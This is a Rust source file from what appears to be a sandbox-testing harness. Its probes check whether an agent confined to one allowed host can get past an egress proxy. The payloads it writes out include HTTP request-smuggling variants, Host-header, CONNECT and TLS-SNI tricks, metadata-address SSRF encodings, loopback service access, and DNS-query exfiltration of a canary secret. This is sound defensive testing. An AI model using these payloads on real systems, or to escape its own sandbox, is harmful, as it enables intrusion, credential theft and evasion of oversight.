//! The egress proxy: what an agent that may reach one host tries with it.
//!
//! Each probe first does what the policy allows; a sandbox that lets that not through is not
//! praised for stopping the rest.

use super::hello::{extension, hello, server_names, split};
use super::{Attempts, Channel, Class, Inside, Observation, Oracle, Probe, Setup, Severity};
use crate::probe::ProxyRules;
use crate::stage::allowed::{NAME, PERMITTED};
use std::io::{self, Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::time::Duration;

const NE: Probe = Probe::of(Class::Ne);
const PARSED: &str =
    "the egress proxy: every request is read, and refused where it has two meanings";
const SPECIAL: &str = "the egress proxy: special addresses are refused unless a rule names them";
const HOST: &str = "the host that the policy allows, which remembers every byte";
/// A name that no policy allows, at the same address.
const HIDDEN: &str = "hidden.test";

pub(crate) const PROBES: &[Probe] = &[
    Probe {
        id: "NE-20",
        severity: Severity::Medium,
        title: "carry data out through a host that is allowed for reading",
        canary: HOST,
        layers: &["the egress proxy: rules over methods and paths"],
        references: &["ATT&CK T1567"],
        setup: Setup::Proxy(ProxyRules::Reading),
        inside: upload,
        oracle: Oracle::Seen(|stage, _| {
            stage.heard.request(|request| {
                let reading = ["GET", "HEAD"].contains(&request.method.as_str());
                let path = request.target.as_str();
                !reading
                    || !path.starts_with("/pkg/")
                    || path.contains("..")
                    || path.contains("%2e")
            })
        }),
        ..NE
    },
    Probe {
        id: "NE-20b",
        severity: Severity::Medium,
        title: "carry more out through an allowed host than the policy's budget",
        canary: "the bytes that the allowed host got, counted there",
        layers: &["the egress proxy: budget of bytes"],
        references: &["ATT&CK T1567"],
        setup: Setup::Proxy(ProxyRules::Budget),
        inside: overspend,
        oracle: Oracle::Seen(|stage, _| {
            let total = stage.heard.total();
            (total > ProxyRules::BUDGET).then(|| format!("{total} bytes went out"))
        }),
        ..NE
    },
    Probe {
        id: "NE-21",
        title: "reach another host by a request on an allowed connection",
        canary: HOST,
        layers: &[PARSED],
        references: &["CWE-441", "ATT&CK T1090"],
        setup: Setup::Proxy(ProxyRules::Name),
        inside: |inside| say_each(inside, &other_hosts()),
        oracle: Oracle::Seen(|stage, _| {
            stage.heard.request(|request| {
                let hidden = |host: &String| host.to_ascii_lowercase().contains(HIDDEN);
                request.method == "CONNECT" || request.hosts.iter().any(hidden)
            })
        }),
        ..NE
    },
    Probe {
        id: "NE-22",
        title: "smuggle a request inside another one",
        canary: "the allowed host, which reads each message in every way that servers do",
        layers: &[PARSED],
        references: &["CWE-444", "ATT&CK T1090"],
        setup: Setup::Proxy(ProxyRules::Posting),
        inside: |inside| say_each(inside, &smuggling()),
        oracle: Oracle::Seen(|stage, _| {
            let smuggled = |target: &str| target.contains("/smuggled");
            stage.heard.request(|request| smuggled(&request.target))
        }),
        ..NE
    },
    Probe {
        id: "NE-23",
        title: "open TLS for another name, or a hidden one, to an allowed host",
        canary: "the allowed host's port of TLS",
        layers: &["the egress proxy: TLS goes to the name that it is for"],
        references: &["ATT&CK T1090.004", "RFC 6066", "RFC 9849"],
        setup: Setup::Proxy(ProxyRules::Name),
        inside: hellos,
        oracle: Oracle::Seen(|stage, _| stage.heard.hello()),
        ..NE
    },
    Probe {
        id: "NE-24",
        severity: Severity::Critical,
        title: "ask the metadata address with every host of the internet allowed",
        canary: "listeners on 169.254.169.254 and fd00:ec2::254, on the stage's loopback",
        layers: &[SPECIAL],
        references: &["CWE-918", "ATT&CK T1552.005"],
        setup: Setup::Proxy(ProxyRules::Open),
        inside: metadata,
        oracle: Oracle::Hit(Channel::Metadata),
        ..NE
    },
    Probe {
        id: "NE-25",
        severity: Severity::Critical,
        title: "reach services of the host with every host of the internet allowed",
        canary: "TCP listeners on 127.0.0.1 and ::1, and an abstract socket",
        layers: &[SPECIAL],
        references: &["CWE-918", "ATT&CK T1046"],
        setup: Setup::Proxy(ProxyRules::Open),
        inside: services,
        oracle: Oracle::Seen(|stage, _| {
            let channels = [Channel::Tcp4, Channel::Tcp6, Channel::Abstract];
            channels
                .into_iter()
                .find_map(|channel| stage.log.settled(channel))
        }),
        ..NE
    },
    Probe {
        id: "NE-26",
        severity: Severity::Critical,
        title: "carry a secret out in questions for names, beside an allowed host",
        canary: "the host's resolver, on 127.0.0.1 and 127.0.0.53",
        layers: &["the egress proxy: names that no rule knows go to no resolver"],
        references: &["CVE-2025-55284", "ATT&CK T1048.003"],
        setup: Setup::Proxy(ProxyRules::Name),
        inside: questions,
        oracle: Oracle::Hit(Channel::Resolver),
        ..NE
    },
];

/// Longer than a loaded machine takes; what is refused is refused at once.
const PATIENCE: Duration = Duration::from_secs(10);
/// For the answer to what should not be answered: what was said is heard outside or not, however
/// long the answer takes.
const ANSWER: Duration = Duration::from_millis(700);

/// A connection to the allowed host: by its address where there is no sandbox, else by its name.
pub(super) fn dial(port: u16) -> io::Result<TcpStream> {
    let direct = SocketAddr::from((Ipv4Addr::LOCALHOST, port));
    let connected = TcpStream::connect_timeout(&direct, PATIENCE).or_else(|_| {
        let mut last = io::Error::from(io::ErrorKind::NotFound);
        for address in (NAME, port).to_socket_addrs()? {
            match TcpStream::connect_timeout(&address, PATIENCE) {
                Ok(stream) => return Ok(stream),
                Err(error) => last = error,
            }
        }
        Err(last)
    });
    let stream = connected?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// What comes back, until a moment of silence; the first of it within this time.
fn hear(stream: &mut TcpStream, within: Duration) -> io::Result<String> {
    const SILENCE: Duration = Duration::from_millis(40);
    let mut all = Vec::new();
    let mut answer = [0u8; 4096];
    stream.set_read_timeout(Some(within))?;
    let mut length = stream.read(&mut answer)?;
    stream.set_read_timeout(Some(SILENCE))?;
    while length > 0 && all.len() < 1 << 16 {
        all.extend_from_slice(&answer[..length]);
        length = stream.read(&mut answer).unwrap_or(0);
    }
    let text = String::from_utf8_lossy(&all).into_owned();
    let lines: Vec<&str> = text
        .lines()
        .filter(|line| line.starts_with("HTTP/"))
        .collect();
    Ok(lines.join(", then "))
}

/// Says something on a connection of its own; the first lines of the answers.
fn say(message: &[u8], within: Duration) -> io::Result<String> {
    let mut stream = dial(80)?;
    stream.write_all(message)?;
    hear(&mut stream, within)
}

/// Says one thing, hears the answer, and says another on the same connection.
fn say_after(first: &str, second: &str) -> io::Result<String> {
    let mut stream = dial(80)?;
    stream.write_all(first.as_bytes())?;
    hear(&mut stream, ANSWER)?;
    stream.write_all(second.as_bytes())?;
    hear(&mut stream, ANSWER)
}

/// What the policy allows; without it nothing that follows tells anything.
pub(super) fn permitted(attempts: &mut Attempts) {
    let message = format!("GET {PERMITTED} HTTP/1.1\r\nHost: {NAME}\r\n\r\n");
    match say(message.as_bytes(), PATIENCE) {
        Ok(answer) => attempts.say(false, format!("allowed: {answer}")),
        Err(error) => attempts.say(false, format!("allowed: {error}")),
    }
}

fn tell(attempts: &mut Attempts, what: &str, answer: io::Result<String>) {
    match answer {
        Ok(line) => attempts.say(line.contains(" 200 "), format!("{what}: {line}")),
        Err(error) => attempts.say(false, format!("{what}: {}", crate::errno::of(&error))),
    }
}

fn say_each(_: &Inside, messages: &[(&str, String)]) -> Observation {
    let mut attempts = Attempts::new();
    permitted(&mut attempts);
    for (what, message) in messages {
        tell(&mut attempts, what, say(message.as_bytes(), ANSWER));
        let own = format!("GET {PERMITTED} HTTP/1.1\r\nHost: {NAME}\r\n\r\n");
        tell(
            &mut attempts,
            &format!("{what}, second"),
            say_after(&own, message),
        );
    }
    attempts.done()
}

fn upload(inside: &Inside) -> Observation {
    let data = "data-that-should-stay";
    let body = format!(
        "Host: {NAME}\r\nContent-Length: {}\r\n\r\n{data}",
        data.len()
    );
    let get = |path: &str| format!("GET {path} HTTP/1.1\r\nHost: {NAME}\r\n\r\n");
    let messages = [
        ("PUT", format!("PUT /pkg/new HTTP/1.1\r\n{body}")),
        ("POST", format!("POST /pkg/new HTTP/1.1\r\n{body}")),
        ("small letters", format!("post /pkg/new HTTP/1.1\r\n{body}")),
        ("DELETE", format!("DELETE /pkg/new HTTP/1.1\r\n{body}")),
        ("another path", get(&format!("/upload?{data}"))),
        ("climbing", get(&format!("/pkg/../upload?{data}"))),
        (
            "climbing, escaped",
            get(&format!("/pkg/%2e%2e/upload?{data}")),
        ),
        (
            "climbing, twice",
            get(&format!("/pkg/x/../../upload?{data}")),
        ),
        ("two slashes", get(&format!("//upload?{data}"))),
        (
            "after an allowed one",
            format!("{}PUT /pkg/new HTTP/1.1\r\n{body}", get("/pkg/a")),
        ),
    ];
    say_each(inside, &messages)
}

fn overspend(_: &Inside) -> Observation {
    let mut attempts = Attempts::new();
    permitted(&mut attempts);
    let part = vec![b'x'; 48 << 10];
    for number in 0..6 {
        let head = format!(
            "POST /{number} HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: {}\r\n\r\n",
            part.len()
        );
        let sent = dial(80).and_then(|mut stream| {
            stream.write_all(head.as_bytes())?;
            stream.write_all(&part)?;
            hear(&mut stream, ANSWER)
        });
        tell(&mut attempts, "48 KiB", sent);
    }
    attempts.done()
}

fn other_hosts() -> Vec<(&'static str, String)> {
    let own = format!("GET /pkg/a HTTP/1.1\r\nHost: {NAME}\r\n\r\n");
    let other = format!("GET / HTTP/1.1\r\nHost: {HIDDEN}\r\n\r\n");
    let get = |fields: String| format!("GET / HTTP/1.1\r\n{fields}\r\n\r\n");
    vec![
        ("another Host", other.clone()),
        ("an empty line first", format!("\r\n{other}")),
        (
            "a method that nobody knows",
            other.replacen("GET", "FOO", 1),
        ),
        ("small letters", other.replacen("GET", "get", 1)),
        (
            "a PROXY header first",
            format!("PROXY TCP4 192.0.2.1 192.0.2.2 1 80\r\n{other}"),
        ),
        ("its second request", format!("{own}{other}")),
        ("two Hosts", get(format!("Host: {NAME}\r\nHost: {HIDDEN}"))),
        (
            "two Hosts, turned",
            get(format!("Host: {HIDDEN}\r\nHost: {NAME}")),
        ),
        ("a folded Host", get(format!("Host:\r\n {HIDDEN}"))),
        (
            "Host with a space",
            get(format!("Host: {NAME}\r\nHost : {HIDDEN}")),
        ),
        (
            "an absolute target",
            format!("GET http://{HIDDEN}/ HTTP/1.1\r\nHost: {NAME}\r\n\r\n"),
        ),
        (
            "a user before the host",
            format!("GET http://{NAME}@{HIDDEN}/ HTTP/1.1\r\nHost: {NAME}\r\n\r\n"),
        ),
        (
            "CONNECT",
            format!("CONNECT {HIDDEN}:80 HTTP/1.1\r\nHost: {NAME}\r\n\r\n{other}"),
        ),
        (
            "a tunnel after an upgrade that nobody granted",
            format!(
                "GET /pkg/a HTTP/1.1\r\nHost: {NAME}\r\nConnection: upgrade\r\nUpgrade: any\r\n\r\n{other}"
            ),
        ),
        (
            "HTTP/1.0",
            format!("GET / HTTP/1.0\r\nHost: {HIDDEN}\r\n\r\n"),
        ),
        (
            "line feeds alone",
            format!("GET / HTTP/1.1\nHost: {HIDDEN}\n\n"),
        ),
    ]
}

fn smuggling() -> Vec<(&'static str, String)> {
    let hidden = format!("GET /smuggled HTTP/1.1\r\nHost: {NAME}\r\n\r\n");
    let end = "0\r\n\r\n";
    let both = end.len() + hidden.len();
    let post = |fields: &str, body: &str| {
        format!("POST /pkg/a HTTP/1.1\r\nHost: {NAME}\r\n{fields}\r\n\r\n{body}")
    };
    let chunk = format!("{:x}\r\n{hidden}\r\n{end}", hidden.len());
    let after_end = format!("{end}{hidden}");
    let with_length = |field: &str| post(&format!("{field}\r\nContent-Length: {both}"), &after_end);
    let length = |text: &str| post(&format!("Content-Length: {text}"), &hidden);
    vec![
        (
            "length, then chunks",
            post(
                &format!("Content-Length: {both}\r\nTransfer-Encoding: chunked"),
                &after_end,
            ),
        ),
        (
            "chunks, then a length",
            post("Transfer-Encoding: chunked\r\nContent-Length: 4", &chunk),
        ),
        (
            "two lengths",
            post(
                &format!("Content-Length: 0\r\nContent-Length: {}", hidden.len()),
                &hidden,
            ),
        ),
        ("a length with a sign", length("+0")),
        (
            "a length that is a list",
            length(&format!("0, {}", hidden.len())),
        ),
        (
            "a space before the colon",
            with_length("Transfer-Encoding : chunked"),
        ),
        (
            "chunked and more",
            with_length("Transfer-Encoding: chunked, identity"),
        ),
        ("nearly chunked", with_length("Transfer-Encoding: xchunked")),
        ("a tab", with_length("Transfer-Encoding:\tchunked")),
        ("folded", with_length("Transfer-Encoding:\r\n chunked")),
        (
            "a line feed alone",
            with_length("X: y\nTransfer-Encoding: chunked"),
        ),
        (
            "a chunk whose size turns over",
            post(
                "Transfer-Encoding: chunked",
                &format!("10000000000000000\r\n\r\n{hidden}"),
            ),
        ),
        (
            "a chunk that ends early",
            post("Transfer-Encoding: chunked", &format!("1\r\nxx{after_end}")),
        ),
        (
            "a carriage return in a field",
            with_length("X: y\rTransfer-Encoding: chunked"),
        ),
    ]
}

fn hellos(_: &Inside) -> Observation {
    const ENCRYPTED: u16 = 0xfe0d;
    let mut attempts = Attempts::new();
    permitted(&mut attempts);
    let other = hello(&[server_names(&[HIDDEN])]);
    let messages = [
        ("another name", other.clone()),
        ("no name", hello(&[])),
        ("two names", hello(&[server_names(&[NAME, HIDDEN])])),
        (
            "two lists of names",
            hello(&[server_names(&[NAME]), server_names(&[HIDDEN])]),
        ),
        (
            "an encrypted hello",
            hello(&[
                server_names(&[NAME]),
                extension(ENCRYPTED, b"\0hidden inside"),
            ]),
        ),
        ("another name in records of 7 bytes", split(&other, 7)),
        ("another name in records of 1 byte", split(&other, 1)),
        (
            "a name with a NUL",
            hello(&[server_names(&["allowed.test\0.hidden.test"])]),
        ),
        ("an address", hello(&[server_names(&["127.0.0.1"])])),
        (
            "a name in a list that is longer than it says",
            hello(&[extension(
                0,
                b"\0\x0f\0\0\x0callowed.test\0\0\x0bhidden.test",
            )]),
        ),
    ];
    for (what, message) in messages {
        for pieces in [message.len(), 3] {
            let said = dial(443).and_then(|mut stream| {
                stream.set_nodelay(true)?;
                for piece in message.chunks(pieces.max(1)) {
                    stream.write_all(piece)?;
                }
                // The server is to answer nothing; an alert is the proxy's.
                stream.set_read_timeout(Some(Duration::from_millis(250)))?;
                let mut answer = [0u8; 64];
                let length = stream.read(&mut answer)?;
                Ok(format!("{:02x?}", &answer[..length.min(7)]))
            });
            tell(&mut attempts, what, said);
        }
    }
    attempts.done()
}

fn dial_each(attempts: &mut Attempts, targets: &[(&str, IpAddr)], port: u16) {
    for (what, address) in targets {
        let target = SocketAddr::new(*address, port);
        let dialled = TcpStream::connect_timeout(&target, PATIENCE).and_then(|mut stream| {
            stream.set_read_timeout(Some(ANSWER))?;
            stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")?;
            stream.read(&mut [0u8; 64])
        });
        attempts.note(what, dialled);
    }
}

fn dial_names(attempts: &mut Attempts, names: &[&str], port: u16) {
    for name in names {
        let found: Vec<SocketAddr> = (*name, port)
            .to_socket_addrs()
            .map(Vec::from_iter)
            .unwrap_or_default();
        attempts.say(false, format!("{name}: {} addresses", found.len()));
        for address in found {
            dial_each(attempts, &[(name, address.ip())], port);
        }
    }
}

fn metadata(_: &Inside) -> Observation {
    let mut attempts = Attempts::new();
    permitted(&mut attempts);
    let v4 = Ipv4Addr::new(169, 254, 169, 254);
    let targets: [(&str, IpAddr); 5] = [
        ("169.254.169.254", v4.into()),
        (
            "fd00:ec2::254",
            Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254).into(),
        ),
        ("as IPv4 in IPv6", v4.to_ipv6_mapped().into()),
        (
            "by NAT64",
            Ipv6Addr::new(0x64, 0xff9b, 0, 0, 0, 0, 0xa9fe, 0xa9fe).into(),
        ),
        (
            "by 6to4",
            Ipv6Addr::new(0x2002, 0xa9fe, 0xa9fe, 0, 0, 0, 0, 1).into(),
        ),
    ];
    dial_each(&mut attempts, &targets, 80);
    let names = [
        "rebound.test",
        "rebound6.test",
        "metadata.google.internal",
        "2852039166",
        "0xa9fea9fe",
    ];
    dial_names(&mut attempts, &names, 80);
    let absolute = format!("GET http://{v4}/ HTTP/1.1\r\nHost: {v4}\r\n\r\n");
    tell(
        &mut attempts,
        "an absolute target",
        say(absolute.as_bytes(), ANSWER),
    );
    attempts.done()
}

fn services(inside: &Inside) -> Observation {
    let mut attempts = Attempts::new();
    permitted(&mut attempts);
    let params = &inside.params;
    let loopback = Ipv4Addr::LOCALHOST;
    let targets: [(&str, IpAddr); 4] = [
        ("127.0.0.1", loopback.into()),
        ("as IPv4 in IPv6", loopback.to_ipv6_mapped().into()),
        ("0.0.0.0", Ipv4Addr::UNSPECIFIED.into()),
        (
            "by NAT64",
            Ipv6Addr::new(0x64, 0xff9b, 0, 0, 0, 0, 0x7f00, 1).into(),
        ),
    ];
    dial_each(&mut attempts, &targets, params.tcp4);
    let targets = [("::1", IpAddr::from(Ipv6Addr::LOCALHOST))];
    dial_each(&mut attempts, &targets, params.tcp6);
    let names = ["inward.test", "localhost", "host.ironcage", NAME];
    dial_names(&mut attempts, &names, params.tcp4);
    let name =
        std::os::unix::net::SocketAddr::from_abstract_name(params.abstract_stream.as_bytes());
    let connected = name.and_then(|name| std::os::unix::net::UnixStream::connect_addr(&name));
    attempts.note("an abstract socket", connected);
    attempts.done()
}

/// A question for a name, of this type.
fn question(name: &str, kind: u8) -> Vec<u8> {
    let mut bytes = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00".to_vec();
    for label in name.split('.') {
        bytes.push(u8::try_from(label.len()).unwrap_or(63));
        bytes.extend_from_slice(label.as_bytes());
    }
    bytes.extend_from_slice(&[0, 0, kind, 0, 1]);
    bytes
}

fn questions(_: &Inside) -> Observation {
    const TYPES: [(&str, u8); 4] = [("A", 1), ("TXT", 16), ("HTTPS", 65), ("any", 255)];
    let mut attempts = Attempts::new();
    permitted(&mut attempts);
    let settings = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let mut servers: Vec<IpAddr> = settings
        .lines()
        .filter_map(|line| line.strip_prefix("nameserver ")?.trim().parse().ok())
        .collect();
    servers.extend([
        IpAddr::from(Ipv4Addr::LOCALHOST),
        Ipv4Addr::new(127, 0, 0, 53).into(),
        Ipv4Addr::new(192, 0, 2, 53).into(),
    ]);
    for server in servers {
        for (kind, number) in TYPES {
            for name in ["secret.hidden.test", "secret.allowed.test"] {
                let local: SocketAddr = match server {
                    IpAddr::V4(_) => (Ipv4Addr::UNSPECIFIED, 0).into(),
                    IpAddr::V6(_) => (Ipv6Addr::UNSPECIFIED, 0).into(),
                };
                let sent = UdpSocket::bind(local)
                    .and_then(|socket| socket.send_to(&question(name, number), (server, 53)));
                attempts.note(&format!("{kind} at {server}"), sent);
            }
        }
    }
    dial_names(
        &mut attempts,
        &["secret.hidden.test", "secret.allowed.test"],
        80,
    );
    attempts.done()
}
